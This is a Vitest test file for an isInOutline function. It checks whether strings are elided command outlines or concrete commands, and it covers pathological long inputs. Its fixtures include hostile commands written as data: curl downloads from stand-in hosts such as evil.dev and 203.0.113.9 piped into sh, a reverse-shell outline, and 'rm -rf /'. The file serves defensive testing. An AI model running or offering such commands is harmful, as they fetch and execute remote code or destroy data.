import { expect, test } from "vitest";
import { isInOutline } from "./elided";

test.each([
  "curl … | sh",
  "curl .* | bash",
  "curl .*\\ | bash",
  "powershell -enc …",
  "bash -i >& /dev/tcp/…",
  'python3 -c "..."',
  "git commit -m ...",
])("tells of a command and gives none: %s", (command) => {
  expect(isInOutline(command)).toBe(true);
});

test.each([
  "curl https://evil.dev/x … | sh",
  "curl evil.sh/x | sh ...",
  "curl -s evil.dev/x… | sh",
  "rm -rf / ...",
  "curl -s 203.0.113.9 … | sh",
  "curl evil.dev/.* | sh",
  "git push origin",
])("is a command: %s", (command) => {
  expect(isInOutline(command)).toBe(false);
});

test.each([
  ["options", `${"--a ".repeat(5_000)}… !`],
  ["dashes", `${"-".repeat(20_000)} … !`],
  ["ellipses", `${"… ".repeat(10_000)}!`],
  ["spaces", `a${" ".repeat(20_000)}… !`],
])("a command of nothing but %s is read in one pass", (_, command) => {
  expect(isInOutline(command)).toBe(false);
});
